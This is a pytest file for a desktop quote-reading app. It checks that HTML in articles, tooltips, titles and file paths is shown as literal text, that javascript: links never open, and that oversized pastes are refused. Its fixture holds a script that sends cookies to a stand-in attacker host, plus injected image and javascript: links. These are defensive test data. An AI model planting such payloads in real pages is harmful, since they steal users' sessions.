"""Markup in an article is text: never rendered, never fetched, never run.

A saved page or a pasted article can hold ``<script>``, ``<img src=...>`` or
``<a href=javascript:...>``; the window must show those characters as they are, in the
article view, the quote list's tooltips, the header and the quote list's title. Pasted
text over a limit is refused with a message, not half-stored.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QDesktopServices, QTextDocument

from core.document import Metadata
from core.ingest import analyse
from core.library import Library
from gui.main_window import MainWindow

HOSTILE = (
    "Markup <b>in</b> the page\n\n"
    "<script>fetch('http://attacker.invalid/?c=' + document.cookie)</script>\n\n"
    '\u201cWe will never <img src="http://attacker.invalid/pixel.png"> pay for it,\u201d'
    " said Mayor Jane Roe.\n\n"
    '\u201cClick <a href="javascript:alert(1)">here</a> for the plan,\u201d Roe added.'
    " &amp; <i>done</i> &lt;\n"
)
TITLE = "<img src=http://attacker.invalid/t.png>Title"


@pytest.fixture
def hostile_window(library: Library, make_window: Callable[[Library], MainWindow]) -> MainWindow:
    library.add_article(
        analyse(HOSTILE, Metadata(title=TITLE, url="javascript:alert(1)")), "/tmp/<b>x</b>.txt"
    )
    return make_window(library)


def shown(rich: str) -> str:
    """What Qt displays for ``rich`` text."""
    document = QTextDocument()
    document.setHtml(rich)
    return document.toPlainText()


def markup_in(document: QTextDocument) -> list[str]:
    """Every image and link in a Qt text document: an article view must hold none."""
    found = []
    block = document.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            fragment = it.fragment()
            fmt = fragment.charFormat()
            if fmt.isImageFormat() or fmt.isAnchor():
                found.append(fragment.text())
            it += 1
        block = block.next()
    return found


def test_article_markup_is_shown_as_text(hostile_window: MainWindow) -> None:
    window = hostile_window
    texts = [r.text for r in window.quotes.loaded()]
    assert any(t.startswith("We will never <img") for t in texts)
    window.quote_view.setCurrentIndex(window.quotes.index(0, 0))
    view = window.article.text
    assert view.toPlainText() == HOSTILE
    assert markup_in(view.document()) == []
    assert window.article.text.document().toPlainText().count("<script>") == 1
    header = window.article.header.text()
    assert "<img" not in header and "&lt;img src=http://attacker.invalid/t.png&gt;" in header
    assert "javascript:" not in header.split("href=")[0]


def test_tooltips_and_titles_show_markup_as_text(hostile_window: MainWindow) -> None:
    window = hostile_window
    for row in range(window.quotes.rowCount()):
        tip = window.quotes.data(window.quotes.index(row, 0), Qt.ItemDataRole.ToolTipRole)
        document = QTextDocument()
        document.setHtml(tip)
        assert window.quotes.row(row).text in document.toPlainText()
        assert markup_in(document) == []
    window.search.setText('<img src="http://attacker.invalid/s.png"> never')
    window._apply_quote_filters()
    title = window.quote_title.text()
    assert "<img" not in title and "&lt;img" in title


def test_a_javascript_link_is_never_opened(
    hostile_window: MainWindow, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[str] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url.toString()))
    told: list[str] = []
    monkeypatch.setattr("gui.main_window.QMessageBox.information", lambda _w, _t, m: told.append(m))
    hostile_window.quote_view.setCurrentIndex(hostile_window.quotes.index(0, 0))
    hostile_window.open_article()
    assert opened == []
    [message] = told  # the source path, markup and all, shown as text
    assert "no longer at /tmp/<b>x</b>.txt" in shown(message)


class FakePaste:
    """The paste dialog, accepted with ``text`` in it."""

    text_value = ""

    def __init__(self, *_: object) -> None:
        self.text = self
        self.DialogCode = type("Codes", (), {"Accepted": 1})

    def exec(self) -> int:
        return 1

    def toPlainText(self) -> str:  # noqa: N802 - Qt's name
        return self.text_value

    def metadata(self) -> Metadata:
        return Metadata()


@pytest.mark.parametrize(
    ("pasted", "reason"),
    [
        ("word " * 30_000, "a paragraph of 150,000 characters"),
        ("\u201cOpen.\n\n" + "More words here, she said.\n\n" * 500 + "Shut.\u201d", "left open"),
    ],
    ids=["one long line", "runaway quotation"],
)
def test_pasted_text_over_a_limit_is_refused_with_a_message(
    window: MainWindow, monkeypatch: pytest.MonkeyPatch, pasted: str, reason: str
) -> None:
    warnings: list[str] = []
    monkeypatch.setattr(FakePaste, "text_value", pasted)
    monkeypatch.setattr("gui.importing.PasteDialog", FakePaste)
    monkeypatch.setattr("gui.main_window.QMessageBox.warning", lambda _w, _t, m: warnings.append(m))
    before = window.library.counts()
    window.paste_article()
    [warning] = map(shown, warnings)
    assert warning.startswith("pasted text: ") and reason in warning
    assert window.library.counts() == before
